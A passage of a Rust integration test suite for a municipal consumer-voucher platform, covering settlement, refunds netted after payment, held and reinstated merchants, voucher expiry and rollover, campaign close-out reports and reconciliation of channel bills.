            (held.id, quan_domain::Fen::new(2000), "B-2".into()),
            (unknown, quan_domain::Fen::new(5), "B-3".into()),
        ])
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(c[0], Confirmation::Matched { id: paid.id, amount: quan_domain::Fen::new(2000) });
    assert!(matches!(&c[1], Confirmation::NotAwaitingPayment { status, .. } if status == "held"), "{:?}", c[1]);
    assert_eq!(c[2], Confirmation::UnknownSettlement { id: unknown });
    let twice = app.engine.confirm_payouts(&[(paid.id, quan_domain::Fen::new(1999), "B-1".into())]).await;
    assert!(matches!(twice.as_deref(), Ok([Confirmation::NotAwaitingPayment { .. }])), "{twice:?}");
}

#[tokio::test]
async fn a_refund_after_payment_is_owed_back_and_netted_and_a_held_merchant_is_paid_once_reinstated() {
    let app = TestApp::sqlite().await;
    let (cid, bid, _) = campaign(&app).await;
    let Shop { id: good, cashier: c1, cashier_pw: p1, .. } = shop(&app, 13, "catering").await;
    let Shop { id: bad, cashier_pw: p2, .. } = shop(&app, 14, "catering").await;
    at(&app, "2026-12-05T12:00:00+08:00");
    let (ta, va) = holder(&app, &bid, "13700000051").await;
    let (_, vb) = holder(&app, &bid, "13700000052").await;
    let (_, vc) = holder(&app, &bid, "13700000053").await;
    // Matching discounts ride along with the redemption; too much is refused and loses nothing.
    let code = code_of(&app, &ta, &va).await;
    let (status, body) = app
        .post(
            "/api/v1/redemptions",
            Some(&c1),
            &json!({"code": code, "order_amount_fen": 12_000, "platform_match_fen": 9_000, "merchant_match_fen": 2_000}),
        )
        .await;
    assert_eq!((status, error_code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "bad_input"), "20 + 110 > 120: {body}");
    let (status, ra) = app
        .post(
            "/api/v1/redemptions",
            Some(&c1),
            &json!({"code": code, "order_amount_fen": 12_000, "platform_match_fen": 500, "merchant_match_fen": 300}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{ra}");
    assert_eq!(
        (ra["subsidy_fen"].as_i64(), ra["resident_pays_fen"].as_i64(), ra["platform_match_fen"].as_i64()),
        (Some(2000), Some(9_200), Some(500)),
        "{ra}"
    );
    let (_, official) = app.staff("yichang.net.official", Role::Official, "4205").await;
    let a = audit(&app, &official, &cid).await;
    assert_eq!((a["platform_matching_fen"].as_str(), a["merchant_matching_fen"].as_str()), (Some("500"), Some("300")));
    at(&app, "2026-12-06T01:00:00+08:00");
    let d5 = chrono::NaiveDate::from_ymd_opt(2026, 12, 5).unwrap_or_default();
    let run = app.engine.settle(d5).await.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(
        run.new.iter().map(|s| (s.status.as_str(), s.amount.as_i64())).collect::<Vec<_>>(),
        vec![("paid", 2000)]
    );

    // 12-06: the paid order is refunded in full (the voucher comes back); the
    // merchant now owes the 20 yuan back. Other orders come in at both shops.
    at(&app, "2026-12-06T10:00:00+08:00");
    let (o1, c1, c2) = (
        app.login("owner13", "owner password 1").await,
        app.login("cashier13", &p1).await,
        app.login("cashier14", &p2).await,
    );
    let (tb, tc) = (resident_again(&app, "13700000052").await, resident_again(&app, "13700000053").await);
    let (_, official) = app.staff("yichang.net.official1", Role::Official, "4205").await;
    let rid = ra["id"].as_str().unwrap_or_default();
    let (status, f) =
        app.post(&format!("/api/v1/redemptions/{rid}/refunds"), Some(&o1), &json!({"amount_fen": 12_000})).await;
    assert_eq!(status, StatusCode::CREATED, "a refund after payment is taken, not refused: {f}");
    let a = audit(&app, &official, &cid).await;
    assert_eq!(
        (a["recoverable_fen"].as_str(), a["paid_fen"].as_str(), a["platform_matching_fen"].as_str()),
        (Some("-2000"), Some("2000"), Some("0")),
        "{a}"
    );
    for (token, voucher, cashier) in [(&tb, &vb, &c1), (&tc, &vc, &c2)] {
        let code = code_of(&app, token, voucher).await;
        let (status, r) =
            app.post("/api/v1/redemptions", Some(cashier), &json!({"code": code, "order_amount_fen": 10_000})).await;
        assert_eq!(status, StatusCode::CREATED, "{r}");
    }
    let (_, op) = app.staff("yichang.net.op", Role::Operator, "4205").await;
    let (status, _) = app
        .post(&format!("/api/v1/merchants/{bad}/review"), Some(&op), &json!({"action": "suspend", "reason": "核查"}))
        .await;
    assert_eq!(status, StatusCode::OK);
    at(&app, "2026-12-07T01:00:00+08:00");
    let (_, official) = app.staff("yichang.net.official3", Role::Official, "4205").await;
    let d6 = chrono::NaiveDate::from_ymd_opt(2026, 12, 6).unwrap_or_default();
    let run = app.engine.settle(d6).await.unwrap_or_else(|e| panic!("{e}"));
    let row = |run: &quan_engine::settlement::SettlementRun, m: &str| {
        run.all
            .iter()
            .find(|(s, _)| s.merchant_id.to_string() == m)
            .map(|(s, _)| (s.status.clone(), s.amount.as_i64(), s.recovered.as_i64(), s.released.as_i64()))
    };
    assert_eq!(row(&run, &good), Some(("recovered".into(), 0, 2000, 0)), "the day's 20 yuan nets what it owed");
    assert_eq!(row(&run, &bad), Some(("held".into(), 2000, 0, 0)));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (csv, _) = quan::commands::settle::write_payout(&run, dir.path()).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(std::fs::read_to_string(csv).unwrap_or_default().lines().count(), 1, "nothing for the bank to pay");
    let a = audit(&app, &official, &cid).await;
    assert_eq!(
        (a["recoverable_fen"].as_str(), a["held_fen"].as_str(), a["payable_fen"].as_str()),
        (Some("0"), Some("2000"), Some("0")),
        "{a}"
    );
    // Held money blocks the close-out until the merchant is dealt with.
    let (status, _) = app.post(&format!("/api/v1/campaigns/{cid}/begin-closing"), Some(&official), &json!({})).await;
    assert_eq!(status, StatusCode::OK);
    at(&app, "2026-12-09T01:00:00+08:00");
    let (_, official) = app.staff("yichang.net.official2", Role::Official, "4205").await;
    let (status, body) = app.post(&format!("/api/v1/campaigns/{cid}/close"), Some(&official), &json!({})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "not_ready_to_close"), "{body}");
    assert!(body["error"]["message"].as_str().is_some_and(|m| m.contains("held")), "{body}");
    let (_, op) = app.staff("yichang.net.op2", Role::Operator, "4205").await;
    app.post(
        &format!("/api/v1/merchants/{bad}/review"),
        Some(&op),
        &json!({"action": "reinstate", "reason": "核查无误"}),
    )
    .await;
    let d7 = chrono::NaiveDate::from_ymd_opt(2026, 12, 7).unwrap_or_default();
    let run = app.engine.settle(d7).await.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(row(&run, &bad), Some(("paid".into(), 2000, 0, 2000)), "the held 20 yuan is released");
    let a = audit(&app, &official, &cid).await;
    assert_eq!((a["held_fen"].as_str(), a["paid_fen"].as_str()), (Some("0"), Some("4000")), "{a}");
    let (status, body) = app.post(&format!("/api/v1/campaigns/{cid}/close"), Some(&official), &json!({})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let a = audit(&app, &official, &cid).await;
    assert_eq!(a["returned_fen"], "996000", "{a}");
}

#[tokio::test]
async fn vouchers_past_their_last_day_expire_and_their_face_value_returns_to_the_budget() {
    let app = TestApp::sqlite().await;
    let (cid, bid, _) = campaign(&app).await;
    at(&app, "2026-12-05T12:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000031").await;
    holder(&app, &bid, "13700000032").await;
    let id: quan_domain::CampaignId = cid.parse().unwrap_or_else(|e| panic!("{e:?}"));
    at(&app, "2026-12-08T23:59:00+08:00");
    assert_eq!(app.engine.expire_campaign(id).await.map(|e| e.vouchers).ok(), Some(0), "still valid on 12-08");
    at(&app, "2026-12-09T00:00:01+08:00");
    let e = app.engine.expire_campaign(id).await.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!((e.vouchers, e.released), (2, 4000));
    assert_eq!(app.engine.expire_campaign(id).await.map(|e| e.vouchers).ok(), Some(0), "once");
    let (_, wallet) = app.get("/api/v1/me/vouchers", Some(&token)).await;
    assert!(
        wallet.as_array().is_some_and(|w| w.iter().any(|v| v["id"] == voucher.as_str() && v["state"] == "expired")),
        "{wallet}"
    );
    let (status, body) = app.get(&format!("/api/v1/me/vouchers/{voucher}/code"), Some(&token)).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "voucher_expired"));
    let (_, auditor) = app.staff("yichang.expiry.audit", Role::Auditor, "4205").await;
    let a = audit(&app, &auditor, &cid).await;
    assert_eq!((a["reserved_fen"].as_str(), a["available_fen"].as_str()), (Some("0"), Some("1000000")), "{a}");
}

#[tokio::test]
async fn a_campaign_closes_only_when_nothing_is_reserved_or_owed_and_returns_the_rest_for_good() {
    let app = TestApp::sqlite().await;
    let (cid, bid, _) = campaign(&app).await;
    let Shop { cashier, .. } = shop(&app, 12, "catering").await;
    at(&app, "2026-12-05T12:00:00+08:00");
    let (token, voucher) = holder(&app, &bid, "13700000041").await;
    holder(&app, &bid, "13700000042").await;
    let code = code_of(&app, &token, &voucher).await;
    let (_, r) =
        app.post("/api/v1/redemptions", Some(&cashier), &json!({"code": code, "order_amount_fen": 10_000})).await;
    let rid = r["id"].as_str().unwrap_or_default().to_owned();
    let (_, official) = app.staff("yichang.closer", Role::Official, "4205").await;
    let (status, body) = app.post(&format!("/api/v1/campaigns/{cid}/close"), Some(&official), &json!({})).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "running: begin closing first: {body}");
    let (status, _) = app.post(&format!("/api/v1/campaigns/{cid}/begin-closing"), Some(&official), &json!({})).await;
    assert_eq!(status, StatusCode::OK);
    let (status, body) = app.post(&format!("/api/v1/campaigns/{cid}/close"), Some(&official), &json!({})).await;
    assert_eq!((status, error_code(&body)), (StatusCode::CONFLICT, "not_ready_to_close"), "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("1 claimed vouchers") && m.contains("owed to merchants")),
        "{body}"
    );
    // The other voucher expires after 12-08; the merchant is paid for 12-05.
    at(&app, "2026-12-09T09:00:00+08:00");
    app.engine
        .settle(chrono::NaiveDate::from_ymd_opt(2026, 12, 5).unwrap_or_default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let (_, official) = app.staff("yichang.closer2", Role::Official, "4205").await;
    let (status, body) = app.post(&format!("/api/v1/campaigns/{cid}/close"), Some(&official), &json!({})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["status"], "closed");
    let actor = app.engine.authenticate(Some(&official)).await.unwrap_or_else(|e| panic!("{e}"));
    let report = app
        .engine
        .close_out_report(&actor, cid.parse().unwrap_or_else(|e| panic!("{e:?}")))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!((report.paid_fen, report.returned_fen, report.reserved_fen, report.payable_fen), (2000, 998_000, 0, 0));
    assert_eq!(report.vouchers, vec![("expired".to_owned(), 1, 2000), ("redeemed".to_owned(), 1, 2000)]);
    assert_eq!(report.paid_by_merchant.len(), 1);
    // The XLSX, read back with a real spreadsheet reader; the HTML names the same figures.
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let path = dir.path().join("close-out.xlsx");
    quan::commands::closeout::write_xlsx(&report, &path).unwrap_or_else(|e| panic!("{e}"));
    {
        use calamine::Reader;
        let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&path).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(wb.sheet_names(), vec!["汇总".to_owned(), "商户支付".to_owned()]);
        let sheet = wb.worksheet_range("汇总").unwrap_or_else(|e| panic!("{e}"));
        let value_of = |label: &str| {
            sheet.rows().find(|r| r[0].to_string().contains(label)).map(|r| r[1].to_string()).unwrap_or_default()
        };
        assert_eq!(value_of("退回国库"), "9980");
        assert_eq!(value_of("已支付商户"), "20");
        let paid = wb.worksheet_range("商户支付").unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(paid.rows().count(), 2, "a header and one merchant");
    }
    let page = quan::commands::closeout::html(&report);
    assert!(page.contains("退回国库 returned to the treasury（元）</td><td class=\"n\">9980.00"), "{page}");
    let a = audit(&app, &official, &cid).await;
    assert_eq!(a["returned_fen"], "998000", "{a}");
    let (status, rep) = app.get(&format!("/api/v1/campaigns/{cid}/close-out-report"), Some(&official)).await;
    assert_eq!(
        (status, rep["returned_fen"].as_i64(), rep["status"].as_str()),
        (StatusCode::OK, Some(998_000), Some("closed")),
        "{rep}"
    );
    // After close nothing moves: a refund (which would post) is refused, the books stay as they were.
    let owner = app.login("owner12", "owner password 1").await;
    let (status, _) =
        app.post(&format!("/api/v1/redemptions/{rid}/refunds"), Some(&owner), &json!({"amount_fen": 10_000})).await;
    assert!(!status.is_success(), "a closed campaign's ledger takes no transfer: {status}");
    audit(&app, &official, &cid).await;
}

#[tokio::test]
async fn a_channel_bill_is_reconciled_line_by_line_with_the_redemptions() {
    use quan_engine::settlement::{BillLine, Mismatch};
    let app = TestApp::sqlite().await;
    let (_, bid, _) = campaign(&app).await;
    let Shop { cashier, .. } = shop(&app, 13, "catering").await;
    at(&app, "2026-12-05T12:00:00+08:00");
    for (i, order) in ["A-1", "A-2", "A-3"].iter().enumerate() {
        let (token, voucher) = holder(&app, &bid, &format!("1370005{i:04}")).await;
        let code = code_of(&app, &token, &voucher).await;
        let (status, _) = app
            .post(
                "/api/v1/redemptions",
                Some(&cashier),
                &json!({"code": code, "order_amount_fen": 12_000, "order_ref": order}),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED);
        app.clock.advance(chrono::Duration::minutes(1));
    }
    let t = |m: i64| at_str("2026-12-05T12:00:00+08:00") + chrono::Duration::minutes(m);
    let line = |line, order: &str, amount: i64, discount: i64, at| BillLine {
        line,
        order_id: order.into(),
        amount: quan_domain::Fen::new(amount),
        discount: quan_domain::Fen::new(discount),
        at,
    };
    let bill =
        vec![line(2, "A-1", 12_000, 2000, t(0)), line(3, "A-2", 11_000, 2000, t(1)), line(4, "X-9", 500, 0, t(3))];
    let (matched, diffs) = app.engine.reconcile(&bill).await.unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(matched, 1);
    assert!(
        diffs.contains(&Mismatch::AmountDiffers {
            line: 3,
            order_id: "A-2".into(),
            bill: quan_domain::Fen::new(11_000),
            quan: quan_domain::Fen::new(12_000)
        }),
        "{diffs:?}"
    );
    assert!(diffs.contains(&Mismatch::NotInQuan { line: 4, order_id: "X-9".into() }), "{diffs:?}");
    assert!(diffs.iter().any(|d| matches!(d, Mismatch::NotInBill { order_id, .. } if order_id == "A-3")), "{diffs:?}");
    assert_eq!(diffs.len(), 3, "{diffs:?}");
}

fn at_str(s: &str) -> chrono::DateTime<chrono::Utc> {
    chrono::DateTime::parse_from_rfc3339(s).map(|d| d.to_utc()).unwrap_or_default()
}

#[tokio::test]
async fn with_the_rollover_rule_expired_vouchers_stock_moves_to_the_next_batch() {
    let app = TestApp::sqlite().await;
    at(&app, "2026-12-05T09:00:00+08:00");
    let (_, official) = app.staff("yichang.rollover", Role::Official, "4205").await;
    let kind = json!({"code": "r10", "name": "立减10元", "discount": {"type": "instant", "off_fen": 1000}, "rollover": true,
        "validity": {"type": "days_after_claim", "days": 1}});
    let doc = json!({
        "campaign": {"name": "滚动券", "region": "4205", "budget_fen": 100_000, "funding_source": "财政", "starts_on": "2026-12-01", "ends_on": "2026-12-31"},
        "batches": [
            {"name": "第一批", "opening_at": "2026-12-05T10:00:00+08:00", "closing_at": "2026-12-05T22:00:00+08:00", "kinds": [{"stock": 5, "kind": kind}]},
            {"name": "第二批", "opening_at": "2026-12-10T10:00:00+08:00", "closing_at": "2026-12-10T22:00:00+08:00", "kinds": [{"stock": 5, "kind": kind}]}
        ]
    });
    let (status, created) = app.post("/api/v1/campaigns", Some(&official), &doc).await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let cid = created["campaign"]["id"].as_str().unwrap_or_default().to_owned();
    let b1 = created["batches"][0]["id"].as_str().unwrap_or_default().to_owned();
    let b2: quan_domain::BatchId =
        created["batches"][1]["id"].as_str().and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("{created}"));
    app.post(&format!("/api/v1/campaigns/{cid}/funding"), Some(&official), &json!({"amount_fen": 100_000})).await;
    app.post(&format!("/api/v1/campaigns/{cid}/start"), Some(&official), &json!({})).await;
    at(&app, "2026-12-05T10:00:00+08:00");
    holder(&app, &b1, "13700000061").await;
    holder(&app, &b1, "13700000062").await;
    at(&app, "2026-12-07T00:00:01+08:00");
    let e = app
        .engine
        .expire_campaign(cid.parse().unwrap_or_else(|e| panic!("{e:?}")))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(e.vouchers, 2);
    assert_eq!(
        app.store.remaining_stock(b2).await.unwrap_or_default(),
        vec![("r10".to_owned(), 7)],
        "5 + the 2 expired"
    );
    let (_, auditor) = app.staff("yichang.rollover.audit", Role::Auditor, "4205").await;
    audit(&app, &auditor, &cid).await;
}
